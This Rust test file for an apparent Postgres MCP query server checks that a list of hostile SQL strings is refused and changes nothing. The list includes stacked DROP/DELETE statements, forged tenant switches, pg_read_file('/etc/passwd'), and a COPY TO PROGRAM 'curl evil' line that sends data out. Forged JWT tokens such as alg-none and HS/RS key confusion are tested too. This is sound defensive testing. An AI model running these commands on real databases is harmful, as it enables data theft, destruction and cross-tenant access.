//! Safety and tenancy against hostile SQL and hostile callers. Every attack is also checked
//! at the database afterwards: no row changed, no object created, no other tenant's row.

use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use crate::common::process::Scratch;
use crate::common::*;
use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey, Header, encode};
use serde_json::{Value, json};

/// Row counts and object names that must not change under attack.
async fn fingerprint() -> Value {
    let admin = admin_pool().await;
    let (orders, items, stores, customers, inventory): (i64, i64, i64, i64, i64) = sqlx::query_as(
        "SELECT (SELECT count(*) FROM retail.orders), (SELECT count(*) FROM retail.order_items), \
                (SELECT count(*) FROM retail.stores), (SELECT count(*) FROM retail.customers), \
                (SELECT coalesce(sum(stock_level), 0)::int8 FROM retail.inventory)",
    )
    .fetch_one(&admin)
    .await
    .unwrap();
    let objects: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname IN ('retail', 'public', 'pgmcp_private')",
    )
    .fetch_one(&admin)
    .await
    .unwrap();
    let key: String =
        sqlx::query_scalar("SELECT md5(signing_key) FROM pgmcp_private.tenant_signing_key")
            .fetch_one(&admin)
            .await
            .unwrap();
    json!({"orders": orders, "items": items, "stores": stores, "customers": customers, "stock": inventory, "objects": objects, "key": key})
}

async fn seattle_store_id() -> i32 {
    sqlx::query_scalar("SELECT store_id FROM retail.stores WHERE rls_user_id = $1::uuid")
        .bind(SEATTLE)
        .fetch_one(&admin_pool().await)
        .await
        .unwrap()
}

/// `sql` with each `{HEAD_OFFICE}` replaced by the head office's id: the tenant that a forged
/// tenant switch aims for (it sees every store).
fn forging(sql: &str) -> String {
    sql.replace("{HEAD_OFFICE}", HEAD_OFFICE)
}

/// (SQL, expected error code). Run each through [`forging`].
const ATTACKS: &[(&str, &str)] = &[
    // Stacked statements and transaction escapes.
    ("SELECT 1; DROP TABLE retail.orders", "UNSAFE_SQL"),
    ("SELECT 1; COMMIT; DROP TABLE retail.orders", "UNSAFE_SQL"),
    ("COMMIT; DROP TABLE retail.orders", "UNSAFE_SQL"),
    ("ROLLBACK; DELETE FROM retail.orders", "UNSAFE_SQL"),
    (
        "SELECT 1; SET pgmcp.context = 'tenant={HEAD_OFFICE}'",
        "UNSAFE_SQL",
    ),
    ("END; DELETE FROM retail.orders", "UNSAFE_SQL"),
    // Comments hiding statements.
    ("/* harmless */ DELETE FROM retail.orders", "UNSAFE_SQL"),
    ("-- just a comment\nDELETE FROM retail.orders", "UNSAFE_SQL"),
    (
        "/* nested /* comment */ still */ UPDATE retail.orders SET store_id = 1",
        "UNSAFE_SQL",
    ),
    ("SELECT 1 /* ; */ ; DROP TABLE retail.orders", "UNSAFE_SQL"),
    (
        "SELECT 1 -- \n; INSERT INTO retail.categories (category_name) VALUES ('x')",
        "UNSAFE_SQL",
    ),
    // DML/DDL in CTEs and subqueries.
    (
        "WITH d AS (DELETE FROM retail.orders RETURNING *) SELECT count(*) FROM d",
        "UNSAFE_SQL",
    ),
    (
        "WITH u AS (UPDATE retail.inventory SET stock_level = 0 RETURNING 1) SELECT * FROM u",
        "UNSAFE_SQL",
    ),
    (
        "SELECT * FROM (WITH i AS (INSERT INTO retail.categories (category_name) VALUES ('x') RETURNING *) SELECT * FROM i) s",
        "UNSAFE_SQL",
    ),
    (
        "SELECT * INTO retail.stolen FROM retail.orders",
        "UNSAFE_SQL",
    ),
    (
        "CREATE TABLE retail.evil AS SELECT * FROM retail.orders",
        "UNSAFE_SQL",
    ),
    ("SELECT * FROM retail.orders FOR UPDATE", "UNSAFE_SQL"),
    ("SELECT * FROM retail.inventory FOR SHARE", "UNSAFE_SQL"),
    (
        "SELECT * FROM (SELECT * FROM retail.orders FOR UPDATE) s",
        "UNSAFE_SQL",
    ),
    // Tenant switching through set_config, everywhere it can hide.
    (
        "SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true)",
        "UNSAFE_SQL",
    ),
    (
        "WITH s AS (SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true)) SELECT count(*) FROM s, retail.orders",
        "UNSAFE_SQL",
    ),
    (
        "SELECT count(*) FROM retail.orders WHERE (SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true)) IS NOT NULL",
        "UNSAFE_SQL",
    ),
    (
        "SELECT * FROM set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT \"set_config\"('pgmcp.context', 'tenant={HEAD_OFFICE}', true)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT pg_catalog.set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT \"pg_catalog\".\"set_config\"('pgmcp.context', 'x', false)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT SET_CONFIG('pgmcp.context', 'x', false)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT o.* FROM retail.orders o, LATERAL (SELECT set_config('pgmcp.context', 'x', true)) l",
        "UNSAFE_SQL",
    ),
    // Session and role changes.
    ("SET pgmcp.context = 'tenant={HEAD_OFFICE}'", "UNSAFE_SQL"),
    (
        "SET LOCAL pgmcp.context = 'tenant={HEAD_OFFICE}'",
        "UNSAFE_SQL",
    ),
    ("RESET ALL", "UNSAFE_SQL"),
    ("SET ROLE postgres", "UNSAFE_SQL"),
    ("SET SESSION AUTHORIZATION postgres", "UNSAFE_SQL"),
    (
        "DO $$ BEGIN DELETE FROM retail.orders; END $$",
        "UNSAFE_SQL",
    ),
    ("COPY retail.orders TO '/tmp/orders.csv'", "UNSAFE_SQL"),
    (
        "COPY (SELECT * FROM retail.customers) TO PROGRAM 'curl evil'",
        "UNSAFE_SQL",
    ),
    ("PREPARE p AS DELETE FROM retail.orders", "UNSAFE_SQL"),
    ("EXECUTE p", "UNSAFE_SQL"),
    ("LISTEN evil", "UNSAFE_SQL"),
    ("NOTIFY evil, 'x'", "UNSAFE_SQL"),
    ("CALL evil()", "UNSAFE_SQL"),
    // Denied functions.
    ("SELECT pg_read_file('/etc/passwd')", "UNSAFE_SQL"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "UNSAFE_SQL"),
    ("SELECT * FROM pg_ls_dir('/')", "UNSAFE_SQL"),
    ("SELECT pg_stat_file('/etc/passwd')", "UNSAFE_SQL"),
    ("SELECT lo_import('/etc/passwd')", "UNSAFE_SQL"),
    ("SELECT lo_export(1, '/tmp/x')", "UNSAFE_SQL"),
    (
        "SELECT query_to_xml('DELETE FROM retail.orders RETURNING 1', true, true, '')",
        "UNSAFE_SQL",
    ),
    (
        "SELECT dblink_exec('dbname=pgmcp', 'DELETE FROM retail.orders')",
        "UNSAFE_SQL",
    ),
    ("SELECT pg_sleep(10)", "UNSAFE_SQL"),
    ("SELECT pg_terminate_backend(1)", "UNSAFE_SQL"),
    ("SELECT pg_cancel_backend(1)", "UNSAFE_SQL"),
    ("SELECT pg_reload_conf()", "UNSAFE_SQL"),
    ("SELECT pg_rotate_logfile()", "UNSAFE_SQL"),
    ("SELECT pg_advisory_lock(1)", "UNSAFE_SQL"),
    ("SELECT pg_try_advisory_xact_lock(1)", "UNSAFE_SQL"),
    (
        "SELECT pg_import_system_collations('pg_catalog')",
        "UNSAFE_SQL",
    ),
    ("SELECT nextval('retail.orders_order_id_seq')", "UNSAFE_SQL"),
    (
        "SELECT setval('retail.orders_order_id_seq', 1)",
        "UNSAFE_SQL",
    ),
    (
        "SELECT count(*) FROM retail.orders WHERE pg_sleep(1) IS NOT NULL",
        "UNSAFE_SQL",
    ),
    // DDL and grants.
    ("DROP TABLE retail.orders", "UNSAFE_SQL"),
    ("TRUNCATE retail.orders", "UNSAFE_SQL"),
    (
        "ALTER TABLE retail.orders DISABLE ROW LEVEL SECURITY",
        "UNSAFE_SQL",
    ),
    ("GRANT ALL ON retail.orders TO PUBLIC", "UNSAFE_SQL"),
    (
        "CREATE FUNCTION evil() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "UNSAFE_SQL",
    ),
    // Not SQL at all.
    ("", "VALIDATION_ERROR"),
    ("   -- only a comment", "VALIDATION_ERROR"),
];

#[tokio::test]
async fn attack_corpus_is_refused_and_changes_nothing() {
    assert!(ATTACKS.len() >= 40);
    let before = fingerprint().await;
    let seattle_id = seattle_store_id().await;
    // Dozens of calls back to back: the per-tenant rate limit (tested on its own) is off here.
    let server = TestServer::start_with(|c| c.rate_limit_per_minute = 0).await;
    let mut c = server.client(Some(SEATTLE)).await;
    for (sql, code) in ATTACKS {
        let sql = &forging(sql);
        let out = c.query(sql).await;
        assert!(out.is_error, "attack accepted: {sql}\n{}", out.structured);
        assert_eq!(out.error_code(), Some(*code), "{sql}: {}", out.structured);
        assert!(
            out.structured["message"].as_str().unwrap().len() > 5,
            "a reason is given"
        );
        if *code == "UNSAFE_SQL" {
            assert!(
                out.structured["details"]["construct"].is_string(),
                "{sql}: the construct is named"
            );
        }
        assert!(out.structured.get("rows").is_none(), "no rows on refusal");
    }
    // A tenant switch hidden in the text must never widen what Seattle sees.
    let mine = c
        .call("execute_query", json!({"sql": "SELECT count(*) FROM retail.orders WHERE store_id <> $1", "params": [seattle_id]}))
        .await
        .scalar();
    assert_eq!(mine, json!(0));
    assert_eq!(fingerprint().await, before, "the database is unchanged");
}

#[tokio::test]
async fn analytical_and_dba_queries_are_accepted() {
    let server = TestServer::start().await;
    let mut c = server.client(Some(HEAD_OFFICE)).await;
    for sql in [
        "WITH monthly AS (SELECT date_trunc('month', o.order_date) AS month, sum(oi.total_amount) AS revenue FROM retail.orders o JOIN retail.order_items oi ON oi.order_id = o.order_id GROUP BY 1) SELECT month, revenue, lag(revenue) OVER (ORDER BY month) AS prev, revenue - lag(revenue) OVER (ORDER BY month) AS growth FROM monthly ORDER BY month",
        "SELECT s.store_name, count(*) FILTER (WHERE o.order_date >= DATE '2025-01-01') AS orders_2025, percentile_cont(0.5) WITHIN GROUP (ORDER BY oi.total_amount) AS median_line FROM retail.stores s JOIN retail.orders o ON o.store_id = s.store_id JOIN retail.order_items oi ON oi.order_id = o.order_id GROUP BY s.store_name",
        "SELECT customer_id, ntile(4) OVER (ORDER BY total) AS quartile FROM (SELECT o.customer_id, sum(oi.total_amount) AS total FROM retail.orders o JOIN retail.order_items oi USING (order_id) GROUP BY 1) t",
        "SELECT extract(dow FROM order_date) AS dow, count(*) FROM retail.orders WHERE order_date > DATE '2025-12-31' - INTERVAL '90 days' GROUP BY 1 ORDER BY 1",
        "SELECT corr(quantity, unit_price) FROM retail.order_items",
        "SELECT 'store' AS kind, store_name AS name FROM retail.stores UNION ALL SELECT 'category', category_name FROM retail.categories",
        "SELECT p.product_name FROM retail.products p WHERE p.base_price > (SELECT avg(p2.base_price) FROM retail.products p2 WHERE p2.category_id = p.category_id)",
        "SELECT relname, n_live_tup, n_dead_tup, last_autovacuum FROM pg_stat_user_tables ORDER BY n_dead_tup DESC",
        "SELECT indexname, indexdef FROM pg_indexes WHERE schemaname = 'retail'",
        "SELECT pg_size_pretty(pg_total_relation_size('retail.orders'))",
    ] {
        let out = c.query(sql).await;
        assert!(!out.is_error, "{sql}: {}", out.structured);
    }
}

#[tokio::test]
async fn with_the_guard_off_the_database_still_refuses() {
    let before = fingerprint().await;
    let seattle_id = seattle_store_id().await;
    let server = TestServer::start_with(|c| c.unsafe_disable_sql_guard = true).await;
    let mut c = server.client(Some(SEATTLE)).await;

    // Forged tenant switches: the policies accept only the server's signed tenant.
    for sql in [
        "SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true), (SELECT count(*) FROM retail.orders WHERE store_id <> $1)",
        "WITH s AS MATERIALIZED (SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', true) AS x) SELECT s.x, (SELECT count(*) FROM retail.orders WHERE store_id <> $1) FROM s",
        "SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', false), set_config('pgmcp.context_token', repeat('0', 64), false), (SELECT count(*) FROM retail.customers WHERE primary_store_id <> $1)",
    ] {
        let sql = forging(sql);
        let others = c
            .call("execute_query", json!({"sql": sql, "params": [seattle_id]}))
            .await
            .first_row_last();
        assert_eq!(others, json!(0), "{sql}: no other store's rows");
    }
    // Two steps: set head office for the session, then read in the next call.
    let _ = c
        .query(&forging(
            "SELECT set_config('pgmcp.context', 'tenant={HEAD_OFFICE}', false)",
        ))
        .await;
    let out = c
        .call("execute_query", json!({"sql": "SELECT count(*) FROM retail.orders WHERE store_id <> $1", "params": [seattle_id]}))
        .await
        .scalar();
    assert_eq!(out, json!(0));
    assert_eq!(
        c.query("SELECT retail.current_tenant()::text")
            .await
            .scalar(),
        json!(SEATTLE),
        "the verified tenant is still the server's"
    );

    // Writes and privileged reads fail at the database.
    for (sql, state) in [
        (
            "INSERT INTO retail.categories (category_name) VALUES ('evil')",
            "25006",
        ),
        (
            "UPDATE retail.orders SET order_date = '1999-01-01'",
            "25006",
        ),
        ("DELETE FROM retail.order_items", "25006"),
        ("CREATE TABLE retail.evil (id int)", "25006"),
        ("SELECT * FROM pgmcp_private.tenant_signing_key", "42501"),
        ("SELECT pg_read_file('/etc/passwd')", "42501"),
        ("SET ROLE pgmcp_owner", "42501"),
        ("SELECT lo_import('/etc/passwd')", "42501"),
    ] {
        let out = c.query(sql).await;
        assert!(out.is_error, "{sql} must fail at the database");
        assert_eq!(
            out.structured["sqlstate"], state,
            "{sql}: {}",
            out.structured
        );
    }
    for sql in [
        "SELECT 1; DELETE FROM retail.orders",
        "COMMIT; DROP TABLE retail.orders",
    ] {
        let out = c.query(sql).await;
        assert!(out.is_error, "{sql}: stacked statements cannot be prepared");
    }
    assert_eq!(fingerprint().await, before, "the database is unchanged");
}

#[tokio::test]
async fn slow_queries_time_out_with_the_limit_in_the_message() {
    let server = TestServer::start_with(|c| c.statement_timeout_ms = 300).await;
    let mut c = server.client(Some(HEAD_OFFICE)).await;
    let started = Instant::now();
    let out = c
        .query("SELECT count(*) FROM generate_series(1, 1000000000)")
        .await;
    assert_eq!(out.error_code(), Some("EXECUTION_TIMEOUT"));
    assert_eq!(out.structured["sqlstate"], "57014");
    assert!(
        out.structured["message"]
            .as_str()
            .unwrap()
            .contains("300 ms")
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    // The connection is clean and usable afterwards.
    assert_eq!(c.query("SELECT 1").await.scalar(), json!(1));
}

#[tokio::test]
async fn a_busy_pool_gives_connection_error_not_a_hang() {
    let server = TestServer::start_with(|c| {
        c.pool_size = 1;
        c.pool_acquire_timeout_ms = 300;
        c.statement_timeout_ms = 5_000;
    })
    .await;
    // Two tenants, each within its fair share (one call): the pool itself is what runs out.
    let mut slow = server.client(Some(HEAD_OFFICE)).await;
    let mut fast = server.client(Some(SEATTLE)).await;
    let long = tokio::spawn(async move {
        slow.query("SELECT count(*) FROM generate_series(1, 30000000)")
            .await
    });
    tokio::time::sleep(Duration::from_millis(150)).await;
    let started = Instant::now();
    let out = fast.query("SELECT 1").await;
    assert_eq!(
        out.error_code(),
        Some("CONNECTION_ERROR"),
        "{}",
        out.structured
    );
    assert!(started.elapsed() < Duration::from_secs(3));
    let _ = long.await;
}

#[tokio::test]
async fn large_results_are_capped() {
    let server = TestServer::start().await;
    let mut c = server.client(Some(HEAD_OFFICE)).await;
    let out = c
        .query("SELECT g, md5(g::text) FROM generate_series(1, 1000000) g")
        .await
        .ok();
    assert_eq!(out["row_count"], 1000);
    assert_eq!(out["truncated"], true);

    let small = TestServer::start_with(|c| c.max_result_bytes = 20_000).await;
    let mut c = small.client(Some(HEAD_OFFICE)).await;
    let out = c
        .query("SELECT repeat('x', 1000) FROM generate_series(1, 100)")
        .await;
    assert_eq!(out.error_code(), Some("RESULT_TOO_LARGE"));
}

#[tokio::test]
async fn rate_limit_applies_per_tenant() {
    let server = TestServer::start_with(|c| {
        c.rate_limit_per_minute = 30;
        c.rate_limit_burst = 5;
    })
    .await;
    let mut seattle = server.client(Some(SEATTLE)).await;
    let mut ho = server.client(Some(HEAD_OFFICE)).await;
    let mut refused = 0;
    for _ in 0..10 {
        let out = seattle.query("SELECT 1").await;
        if out.error_code() == Some("RATE_LIMIT_EXCEEDED") {
            refused += 1;
            assert!(out.detail_f64("retry_after_ms") > 0.0);
        }
    }
    assert!(
        refused >= 4,
        "a burst over the limit is refused ({refused} of 10)"
    );
    assert_eq!(
        ho.query("SELECT 1").await.scalar(),
        json!(1),
        "another tenant is unaffected"
    );
}

// ---------------------------------------------------------------------------------------
// JWT

const SECRET: &str = "test-secret-that-is-long-enough-for-hs256!";

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn claims(tenant: Option<&str>) -> Value {
    let mut c = json!({"sub": "alice", "iss": "https://issuer.test", "aud": "pg-mcp", "exp": now() + 600, "nbf": now() - 10});
    if let Some(t) = tenant {
        c["rls_user_id"] = json!(t);
    }
    c
}

fn hs_token(claims: &Value, secret: &str) -> String {
    encode(
        &Header::new(Algorithm::HS256),
        claims,
        &EncodingKey::from_secret(secret.as_bytes()),
    )
    .unwrap()
}

async fn jwt_server() -> TestServer {
    TestServer::start_with(|c| {
        c.auth_mode = pg_mcp::config::AuthMode::Jwt;
        c.jwt_secret = Some(SECRET.into());
        c.jwt_issuer = Some("https://issuer.test".into());
        c.jwt_audience = Some("pg-mcp".into());
        c.jwt_leeway_secs = 5;
    })
    .await
}

/// Posts `initialize` with the given headers; returns HTTP status and JSON body.
async fn initialize_with(server: &TestServer, headers: &[(&str, String)]) -> (u16, Value) {
    let mut req = reqwest::Client::new()
        .post(server.url("/mcp"))
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream")
        .body(r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#);
    for (k, v) in headers {
        req = req.header(*k, v);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

#[tokio::test]
async fn a_valid_token_carries_the_tenant() {
    let server = jwt_server().await;
    let token = hs_token(&claims(Some(SEATTLE)), SECRET);
    let mut client = McpClient::connect_with_headers(
        &server.url("/mcp"),
        &[("authorization", format!("Bearer {token}"))],
    )
    .await;
    let seattle_id = seattle_store_id().await;
    let others = client
        .call("execute_query", json!({"sql": "SELECT count(*) FROM retail.orders WHERE store_id <> $1", "params": [seattle_id]}))
        .await
        .scalar();
    assert_eq!(others, json!(0));
    let mine = client
        .query("SELECT count(*) FROM retail.orders")
        .await
        .scalar();
    assert!(mine.as_i64().unwrap() > 0);
}

/// (name, headers, expected status, expected error code)
type BadTokenCase<'a> = (&'a str, Vec<(&'a str, String)>, u16, &'a str);

#[tokio::test]
async fn bad_tokens_are_refused_with_the_right_status() {
    let server = jwt_server().await;
    let b64 = |v: &Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string());
    let rsa_public = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/jwt_test_rsa_public.pem"
    ))
    .unwrap();

    let mut expired = claims(Some(SEATTLE));
    expired["exp"] = json!(now() - 3600);
    let mut not_yet = claims(Some(SEATTLE));
    not_yet["nbf"] = json!(now() + 3600);
    let mut wrong_iss = claims(Some(SEATTLE));
    wrong_iss["iss"] = json!("https://evil.test");
    let mut wrong_aud = claims(Some(SEATTLE));
    wrong_aud["aud"] = json!("someone-else");
    let mut no_exp = claims(Some(SEATTLE));
    no_exp.as_object_mut().unwrap().remove("exp");
    let alg_none = format!(
        "{}.{}.",
        b64(&json!({"alg": "none", "typ": "JWT"})),
        b64(&claims(Some(HEAD_OFFICE)))
    );
    let bad_tenant = hs_token(&claims(Some("not-a-uuid")), SECRET);

    let cases: Vec<BadTokenCase> = vec![
        ("no Authorization", vec![], 401, "UNAUTHORIZED"),
        (
            "not Bearer",
            vec![(
                "authorization",
                format!("Basic {}", hs_token(&claims(Some(SEATTLE)), SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "garbage",
            vec![("authorization", "Bearer abc.def".into())],
            401,
            "UNAUTHORIZED",
        ),
        (
            "expired",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&expired, SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "not yet valid",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&not_yet, SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "wrong signature",
            vec![(
                "authorization",
                format!(
                    "Bearer {}",
                    hs_token(
                        &claims(Some(SEATTLE)),
                        "another-secret-that-is-also-long-enough"
                    )
                ),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "wrong issuer",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&wrong_iss, SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "wrong audience",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&wrong_aud, SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "no exp",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&no_exp, SECRET)),
            )],
            401,
            "UNAUTHORIZED",
        ),
        (
            "alg none",
            vec![("authorization", format!("Bearer {alg_none}"))],
            401,
            "UNAUTHORIZED",
        ),
        (
            "missing tenant claim",
            vec![(
                "authorization",
                format!("Bearer {}", hs_token(&claims(None), SECRET)),
            )],
            403,
            "FORBIDDEN",
        ),
        (
            "tenant claim not a UUID",
            vec![("authorization", format!("Bearer {bad_tenant}"))],
            403,
            "FORBIDDEN",
        ),
        (
            "header/claim mismatch",
            vec![
                (
                    "authorization",
                    format!("Bearer {}", hs_token(&claims(Some(SEATTLE)), SECRET)),
                ),
                ("x-rls-user-id", HEAD_OFFICE.to_string()),
            ],
            403,
            "FORBIDDEN",
        ),
    ];
    for (name, headers, status, code) in cases {
        let (got, body) = initialize_with(&server, &headers).await;
        assert_eq!(got, status, "{name}: {body}");
        assert_eq!(body["error_code"], code, "{name}");
        assert!(
            !body.to_string().contains(SECRET),
            "{name}: no secret in errors"
        );
    }

    // HS/RS confusion: a server with an RSA public key must not accept an HS256 token
    // whose HMAC key is that public key.
    let dir = Scratch::dir("jwt");
    let pem_path = dir.path().join("public.pem");
    std::fs::write(&pem_path, &rsa_public).unwrap();
    let rsa_server = TestServer::start_with(move |c| {
        c.auth_mode = pg_mcp::config::AuthMode::Jwt;
        c.jwt_public_key_file = Some(pem_path);
    })
    .await;
    let confused = encode(
        &Header::new(Algorithm::HS256),
        &claims(Some(HEAD_OFFICE)),
        &EncodingKey::from_secret(&rsa_public),
    )
    .unwrap();
    let (got, body) = initialize_with(
        &rsa_server,
        &[("authorization", format!("Bearer {confused}"))],
    )
    .await;
    assert_eq!(got, 401, "{body}");
    assert_eq!(body["error_code"], "UNAUTHORIZED");
    // ...while a real RS256 token works.
    let rsa_private = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/jwt_test_rsa_private.pem"
    ))
    .unwrap();
    let good = encode(
        &Header::new(Algorithm::RS256),
        &claims(Some(HEAD_OFFICE)),
        &EncodingKey::from_rsa_pem(&rsa_private).unwrap(),
    )
    .unwrap();
    let (got, body) =
        initialize_with(&rsa_server, &[("authorization", format!("Bearer {good}"))]).await;
    assert_eq!(got, 200, "{body}");
}
